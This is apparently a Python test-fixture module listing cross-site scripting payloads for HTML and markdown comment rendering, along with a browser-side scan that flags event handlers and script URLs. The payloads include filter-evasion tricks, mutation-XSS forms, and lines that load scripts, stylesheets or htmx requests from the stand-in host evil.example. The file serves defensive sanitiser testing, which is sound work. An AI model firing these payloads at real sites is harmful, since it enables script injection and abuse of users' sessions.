"""Texts that would take over a browser which reads them as something else than words."""

HOSTILE = [
    # Scripts, plain and hidden from a filter that reads but once
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(2)</scr</script>ipt>",
    "<ScRiPt/x>alert(3)</sCrIpT >",
    "</title></textarea></style><script>alert(4)</script>",
    "<script src=//evil.example/5.js></script>",
    "--><script>alert(6)</script><!--",
    "]]><script>alert(7)</script>",
    "\\u003cscript\\u003ealert(8)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(9)%3C/script%3E",
    "&lt;script&gt;alert(10)&lt;/script&gt;",
    "\uff1cscript\uff1ealert(11)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(12)+ADw-/script+AD4-",
    # Handlers of elements that need no click
    "<img src=x onerror=alert(13)>",
    "<img/src='x'/onerror='alert(14)'>",
    '<img src="x` `<script>alert(15)</script>"` `>',
    "<svg onload=alert(16)>",
    "<svg><animate onbegin=alert(17) attributeName=x dur=1s>",
    "<svg><script>alert&#40;18&#41;</script></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(19)>#x'></svg>",
    "<body onload=alert(20)><details open ontoggle=alert(20)>",
    "<video><source onerror=alert(21)></video><audio src=x onerror=alert(21)>",
    "<input autofocus onfocus=alert(22)><select autofocus onfocus=alert(22)>",
    "<p style='animation:x' onanimationstart=alert(23)>a",
    # What changes its meaning when it is read a second time
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=alert(24)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(25)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(26)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(27)>",
    "<p><![CDATA[<img src=x onerror=alert(28)>]]></p>",
    "<template><img src=x onerror=alert(29)></template>"
    "<xmp><p title='</xmp><svg onload=alert(29)>'>",
    # Addresses
    "<a href='javascript:alert(30)'>a</a>",
    "<a href=' &#1;java&#9;script&colon;alert(31)'>a</a>",
    "<a href='JaVaScRiPt&#58;alert(32)'>a</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgzMyk8L3NjcmlwdD4='>a</a>",
    "<a href='vbscript:alert(34)'>a</a><a href='//evil.example/34'>a</a>",
    "<iframe src=javascript:alert(35)></iframe><iframe srcdoc='<script>alert(35)</script>'>",
    "<object data=javascript:alert(36)><embed src=javascript:alert(36)>",
    "<base href=https://evil.example/><link rel=stylesheet href=//evil.example/37>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(38)'>",
    "<form action=javascript:alert(39)><button>a</button></form>",
    # Out of an attribute, a script or a template
    '" onmouseover=alert(40) autofocus onfocus=alert(40) x="',
    "' onfocus='alert(41)' autofocus tabindex='0",
    "`><img src=x onerror=alert(42)>",
    "'-alert(43)-'",
    '\\";alert(44);//',
    "</script><script>alert(45)</script>",
    "{{ 7777|add:1 }}{% csrf_token %}{{constructor.constructor('alert(46)')()}}${alert(46)}",
    # Looks
    "<style>@import '//evil.example/47';*{background:url(//evil.example/47)}</style>",
    "<p style='position:fixed;inset:0;background:url(//evil.example/48)'>a</p>",
    # Text that misleads or does not end
    "\u202e\u2066txt.exe\u2069 " + "Z\u0351\u036b\u0343" * 20,
    "\u200b\ufeff\u00ad" * 20 + "\ue000\ufffd",
    "W" * 140,
]
SCAN = """() => {
  const wrong = []
  for (const element of document.querySelectorAll("*")) {
    for (const { name } of element.attributes) {
      if (name.startsWith("on")) wrong.push(element.outerHTML.slice(0, 200))
    }
    const leads = element.href?.baseVal ?? element.href ?? element.action
    if (typeof leads === "string" && /^(javascript|data|vbscript):/i.test(leads.trim())) {
      wrong.push(leads)
    }
    if (/evil/.test(element.getAttribute("style") || "")) wrong.push(element.outerHTML)
  }
  const kinds = "iframe, object, embed, base, meta[http-equiv], math, .prose svg, .piece-text svg"
  for (const element of document.querySelectorAll(kinds)) wrong.push(element.outerHTML)
  return wrong
}"""
# What is typed into a comment, whose quotes, emphasis and addresses become HTML.
HOSTILE_MARKS = [
    "> <img src=x onerror=alert(101)>",
    ">> <script>alert(102)</script>",
    "*<img src=x onerror=alert(103)>*",
    "**<svg onload=alert(104)>**",
    "*a* <b onmouseover=alert(105)>*b*</b>",
    "***<i autofocus tabindex=0 onfocus=alert(106)>***",
    'https://example.org/"onmouseover=alert(107)//',
    "https://example.org/'onfocus='alert(108)",
    "https://example.org/><img src=x onerror=alert(109)>",
    "https://example.org/`onclick=alert(110)`",
    'https://example.org/" autofocus onfocus="alert(111)',
    'https://example.org/*"onmouseover=alert(112)*',
    '**https://example.org/**"onmouseover=alert(113)',
    "http://javascript:alert(114)@example.org/",
    "https://example.org/%22%3E%3Cscript%3Ealert(115)%3C/script%3E",
    "https://example.org/?a=<script>alert(116)</script>",
    'https://example.org/#"><svg onload=alert(117)>',
    "javascript:alert(118)",
    "javascript://example.org/%0aalert(119)",
    "JaVaScRiPt:alert(120)//https://example.org/",
    "[a](javascript:alert(121))",
    '[a](https://example.org/"onmouseover="alert(122))',
    '![a](x"onerror=alert(123))',
    '<https://example.org/"onmouseover=alert(124)>',
    "<javascript:alert(125)>",
    "[a]: javascript:alert(126)\n\n[a][a]",
    "data:text/html,<script>alert(127)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxMjgpPC9zY3JpcHQ+",
    "vbscript:msgbox(129)",
    "view-source:javascript:alert(130)",
    "https://example.org\\@evil.example/131",
    "https://example.org\u2028onmouseover=alert(132)",
    'https://example.org/\u0000"onmouseover=alert(133)',
    "https://\u202egro.elpmaxe/134",
    'https://example.org/\ud7ff" onerror=alert(135)',
    "> > > > > > > > <script>alert(136)</script>",
    "*" * 200 + "<script>alert(137)</script>" + "*" * 200,
    "> " * 300 + "<img src=x onerror=alert(138)>",
    "<em onmouseover=alert(139)>a</em>",
    "<a href=https://example.org onclick=alert(140)>a</a>",
    "<blockquote onclick=alert(141)>a</blockquote>",
    "<br onload=alert(142)><p onclick=alert(142)>a</p>",
    "<strong style=background:url(//evil.example/143)>a</strong>",
    "<a href=https://example.org rel=opener target=x>a</a><a name=alert>144</a>",
    "<a href='https://example.org' hx-get='//evil.example/145' hx-trigger=load>a</a>",
    "<p hx-on::load=alert(146) hx-on:click=alert(146)>a</p>",
    "<div hx-trigger=load hx-post=/en/sign-out/>147</div>",
    "<a data-hx-get=//evil.example/148 data-hx-trigger=load>a</a>",
    "<p id=comments class=hidden>149</p><div id=sign-in></div>",
    "</blockquote></article></main><script>alert(150)</script>",
    "&#60;script&#62;alert(151)&#60;/script&#62;",
    "&lt;img src=x onerror=alert(152)&gt;",
    "\uff1cimg src=x onerror=alert(153)\uff1e",
    "\u00a0\u3000<script\u00a0>alert(154)</script>",
    "<scr\u200bipt>alert(155)</scr\u200bipt>",
    "{{ 7777|add:1 }}{% load static %}${7777+1}",
    "<!--[if gte IE 4]><script>alert(156)</script><![endif]-->",
    "<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml' onload='alert(157)'/>",
    "<isindex action=javascript:alert(158) type=image>",
    "<marquee onstart=alert(159)>a</marquee>",
    "<keygen autofocus onfocus=alert(160)><button popovertarget=x onclick=alert(160)>a</button>",
]
